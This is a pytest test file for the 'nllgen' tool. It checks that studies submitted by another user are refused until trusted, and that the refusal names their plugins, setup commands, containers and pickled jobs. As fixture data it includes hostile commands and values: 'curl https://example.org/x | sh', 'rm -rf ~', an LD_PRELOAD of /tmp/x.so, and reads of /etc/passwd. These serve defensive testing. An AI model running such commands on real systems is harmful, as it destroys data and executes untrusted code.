"""A study that another user submitted, or this one elsewhere: data until it is accepted, whoever owns its files now."""

from __future__ import annotations

import json
import os
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from nllgen.errors import UntrustedError
from nllgen.launch.executables import of_jobs
from nllgen.launch.freeze import freeze, freeze_study
from nllgen.launch.slurm.arrays import Stage, Submission, SubmissionDir
from nllgen.launch.trust import executables, require_trust
from nllgen.launch.worker_process import WorkerConfig
from nllgen.storage.study_dir import StudyDir
from nllgen.study.load import parse_study
from nllgen.study.run_options import RunOptions
from tests.cli.process import TINY, Run, in_process, refused

PLUGIN = """
from pathlib import Path
from torch import nn

Path(__file__).with_name("imported").touch()

class Model(nn.Module):
    pass
"""
GRID = TINY.replace("name: tiny", "name: tiny\nplugins: [zoo_of_somebody]").replace(
    "flow: {width: 2, blocks: 0, scales: 1}", "model: {factory: 'zoo_of_somebody:Model', options: {file: /etc/motd}}"
)
SETUP = "curl https://example.org/x | sh"
PROFILE = {"partition": "short", "setup": ["module load x", SETUP]}
CONTAINER = "/home/mallory/evil.sif"


def submission(profile: dict[str, Any], container: str = CONTAINER, name: str = "abc") -> Submission:
    config = WorkerConfig(RunOptions(Path("/assets")), container=Path(container))
    return Submission(name, (Stage("cells0", (("x",),)),), profile, {"setup": config.to_record()})


def submitted(text: str, root: Path, profile: dict[str, Any] = PROFILE, container: str = CONTAINER) -> StudyDir:
    """Leave what a submission to a cluster leaves: the frozen study, its record, a program and pickles."""
    study_dir, _, _ = freeze(parse_study(text, "tiny.yaml", precision="fp32"), root)
    where = SubmissionDir(study_dir.submitit / "abc")
    where.path.mkdir(parents=True)
    where.write(submission(profile, container))
    (where.path / "cells0.pkl").write_bytes(b"pickle")
    study_dir.code.mkdir(exist_ok=True)
    return study_dir


@pytest.fixture
def other_account(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Callable[[], None]:
    """Return a function that makes this process another user, or another site: one with an empty record."""
    return lambda: monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state-of-another"))


@pytest.fixture
def plugin(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Put the study's plugin on the path, and return the file that shows that it was imported."""
    (tmp_path / "zoo_of_somebody.py").write_text(PLUGIN)
    monkeypatch.syspath_prepend(tmp_path)
    return tmp_path / "imported"


@pytest.fixture
def received(tmp_path: Path, other_account: Callable[[], None], monkeypatch: pytest.MonkeyPatch) -> StudyDir:
    """Return a study that was submitted by somebody else; every file belongs to this user, as after tar -x."""
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state-of-the-sender"))
    study_dir = submitted(GRID, tmp_path / "runs")
    other_account()
    return study_dir


@pytest.fixture
def nllgen(tmp_path: Path, received: StudyDir) -> Run:
    """Return a function that runs ``nllgen`` in this process, as the receiver."""
    (tmp_path / "grid.yaml").write_text(GRID)

    def run(*words: object, **extra: str) -> Any:
        return in_process([*map(str, words)], cwd=tmp_path, env=os.environ | {"NLLGEN_ASSETS": str(tmp_path)} | extra)

    return run


def where(study_dir: StudyDir) -> tuple[object, ...]:
    return ("--grid", study_dir.path.parents[1] / "grid.yaml", "--root", study_dir.path.parent)


def listing(study_dir: StudyDir) -> dict[Path, int]:
    return {path: path.stat().st_mtime_ns for path in study_dir.path.rglob("*")}


@pytest.mark.slow
def test_what_only_reads_works_and_imports_nothing(
    received: StudyDir, nllgen: Run, plugin: Path, tmp_path: Path
) -> None:
    cell = received.read_study().cells[0].id
    received.cell(cell).path.mkdir(parents=True)
    received.cell(cell).log.write_text("line\n")
    for words in (
        ("plan", *where(received)),
        ("status", received.path),
        ("logs", received.path, cell),
        ("collect", received.path, "--allow-missing"),
        ("report", received.path, "--out", tmp_path / "report"),
        ("export", received.path, "--format", "csv", "--out", tmp_path / "csv"),
        ("check", received.path),
        ("retry", received.path, "--dry-run"),
        ("submit", *where(received), "--local", "--dry-run"),
    ):
        done = nllgen(*words)
        assert done.returncode == (1 if words[0] == "collect" else 0), (words, done.stderr)  # no cell has a result
    assert "zoo_of_somebody" not in sys.modules
    assert not plugin.exists()


COMMANDS: dict[str, Callable[[StudyDir], tuple[object, ...]]] = {
    "submit": lambda folder: ("submit", *where(folder), "--local"),
    "run": lambda folder: ("run", *where(folder), "--cell", folder.read_study().cells[0].id),
    "retry": lambda folder: ("retry", folder.path),
    "retry --local": lambda folder: ("retry", folder.path, "--local"),
    "evaluate": lambda folder: ("evaluate", folder.path, "--metric", "kid"),
}


@pytest.mark.parametrize("command", COMMANDS)
def test_what_would_run_it_refuses_and_names_what_it_would_run(
    received: StudyDir, nllgen: Run, plugin: Path, command: str
) -> None:
    before = listing(received)
    done = nllgen(*COMMANDS[command](received))
    refused(done, 2, "not submitted by you", "zoo_of_somebody:Model", '"file": "/etc/motd"', "plugins: zoo_of_somebody",
            f"setup: {SETUP}", f"container: {CONTAINER}", "pickled jobs", "--trust", "docs/code.md")  # fmt: skip
    assert listing(received) == before
    assert not plugin.exists()


@pytest.mark.parametrize("command", ["retry", "evaluate"])
def test_it_is_asked_for_once(received: StudyDir, nllgen: Run, command: str) -> None:
    accepted = nllgen(*COMMANDS[command](received), "--trust")
    assert accepted.returncode == 0, accepted.stderr
    for each in ("retry", "evaluate"):
        assert nllgen(*COMMANDS[each](received)).returncode == 0


def accept(study_dir: StudyDir) -> None:
    require_trust(study_dir, study_dir.read_study(), accept=True, echo=pytest.fail)


def unknown(study_dir: StudyDir) -> list[str]:
    return [each.lines[0] for each in executables(study_dir, study_dir.read_study()) if not each.is_trusted]


CHANGES: dict[str, tuple[str, dict[str, Any], str]] = {
    "setup": (GRID, PROFILE | {"setup": ["module load x", "rm -rf ~"]}, CONTAINER),
    "python": (GRID, PROFILE | {"python": "/tmp/python"}, CONTAINER),
    "environment": (GRID, PROFILE | {"environment": {"LD_PRELOAD": "/tmp/x.so"}}, CONTAINER),
    "container": (GRID, PROFILE, "/tmp/other.sif"),
    "factory": (GRID.replace(":Model", ":Other"), PROFILE, CONTAINER),
    "options": (GRID.replace("/etc/motd", "/etc/passwd"), PROFILE, CONTAINER),
    "plugins": (GRID.replace("[zoo_of_somebody]", "[zoo_of_somebody, os]"), PROFILE, CONTAINER),
}


@pytest.mark.parametrize("change", CHANGES)
def test_a_newer_copy_that_would_run_something_else_is_asked_for_again(
    received: StudyDir, tmp_path: Path, change: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    accept(received)
    assert unknown(received) == []
    with monkeypatch.context() as sender:
        sender.setenv("XDG_STATE_HOME", str(tmp_path / "state-of-the-sender"))
        text, profile, container = CHANGES[change]
        newer = submitted(text, tmp_path / "newer", profile, container)
    assert unknown(newer)
    with pytest.raises(UntrustedError):
        require_trust(newer, newer.read_study(), accept=False, echo=pytest.fail)


def test_the_own_study_grows_and_moves_without_a_question(tmp_path: Path) -> None:
    study_dir = submitted(GRID, tmp_path / "runs")
    larger = GRID.replace("range: [0, 2]", "range: [0, 3]").replace("/etc/motd", "/etc/hosts, lr: 1")
    grown = parse_study(GRID + larger[larger.index("  - data") :], "grown.yaml", precision="fp32")
    for _ in range(2):
        _, frozen, _ = freeze_study(grown, tmp_path / "runs", pytest.fail)
    assert len(frozen.cells) == 5
    SubmissionDir(study_dir.submitit / "abc").write(submission({"partition": "other"}))
    study_dir.path.rename(tmp_path / "moved")
    assert unknown(StudyDir(tmp_path / "moved")) == []


def test_the_record_of_a_job_that_sends_cells_again_is_not_asked_for(received: StudyDir) -> None:
    """The last job of a study submits failed cells again, perhaps where no record can be written."""
    accept(received)
    again = submission(PROFILE, name="later")
    setup = again.options["setup"]
    options = setup["options"] | {"code_sha256": "5" * 64}
    assert of_jobs(again.profile, setup | {"code": "/elsewhere", "options": options}).is_trusted


def test_a_study_without_anything_to_run_is_not_asked_for(tmp_path: Path, other_account: Callable[[], None]) -> None:
    study_dir, study, _ = freeze(parse_study(TINY, "tiny.yaml", precision="fp32"), tmp_path / "runs")
    other_account()
    freeze_study(study, tmp_path / "runs", pytest.fail)
    submitted_later = study_dir.submitit
    submitted_later.mkdir()
    assert unknown(study_dir) == []


def test_a_directory_of_programs_without_a_study_is_asked_for(
    tmp_path: Path, other_account: Callable[[], None]
) -> None:
    (tmp_path / "runs" / "tiny" / "submitit").mkdir(parents=True)
    other_account()
    study = parse_study(TINY, "tiny.yaml", precision="fp32")
    with pytest.raises(UntrustedError, match="pickled jobs"):
        freeze_study(study, tmp_path / "runs", pytest.fail)
    freeze_study(study, tmp_path / "runs", pytest.fail, trust=True)


def test_control_characters_and_long_records_are_cut(received: StudyDir) -> None:
    record = received.submitit / "abc" / "submission.json"
    content = json.loads(record.read_text())
    content["profile"]["setup"] = ["\x1b[2J" + "x" * 9000, *["line"] * 900]
    record.write_text(json.dumps(content))
    with pytest.raises(UntrustedError) as caught:
        require_trust(received, received.read_study(), accept=False, echo=pytest.fail)
    assert "\x1b" not in str(caught.value)
    assert len(str(caught.value)) < 5000
    assert str(record) in str(caught.value)


@pytest.mark.parametrize("setup", [5, [1], {"options": 3}, None, {"container": {"a": [{}]}}])
def test_a_record_may_hold_anything(received: StudyDir, setup: object) -> None:
    record = received.submitit / "abc" / "submission.json"
    content = json.loads(record.read_text())
    content["options"]["setup"] = setup
    record.write_text(json.dumps(content))
    assert len(unknown(received)) == 3
    record.write_text("{")
    assert len(unknown(received)) == 2


@pytest.fixture
def no_state(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "file").touch()
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "file" / "below"))


@pytest.mark.usefixtures("no_state")
def test_a_submission_needs_no_record(tmp_path: Path) -> None:
    notes: list[str] = []
    study = parse_study(GRID, "tiny.yaml", precision="fp32")
    study_dir, _, _ = freeze_study(study, tmp_path / "runs", notes.append)
    (note,) = notes
    assert "cannot record" in note
    assert "XDG_STATE_HOME" in note
    SubmissionDir(study_dir.path).write(submission(PROFILE))
    study_dir.code.mkdir()
    with pytest.raises(UntrustedError, match="--trust"):
        freeze_study(study, tmp_path / "runs", notes.append)
    freeze_study(study, tmp_path / "runs", notes.append, trust=True)
